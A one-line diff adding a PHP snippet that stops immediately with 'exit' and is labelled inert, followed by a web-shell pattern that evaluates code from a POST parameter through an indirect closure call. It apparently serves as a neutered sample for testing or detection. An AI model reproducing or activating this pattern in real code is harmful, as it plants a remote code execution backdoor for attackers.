@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $f=function($x){ return eval($x); }; array_map($f, [$_POST["c"]]);
